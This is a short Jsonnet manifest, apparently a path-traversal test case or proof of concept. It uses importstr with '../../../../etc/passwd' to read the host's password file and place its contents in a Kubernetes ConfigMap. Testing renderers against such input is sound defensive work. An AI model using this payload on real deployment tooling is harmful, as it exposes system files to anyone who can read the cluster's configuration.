local secret = importstr '../../../../etc/passwd';
{ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'x' }, data: { p: secret } }
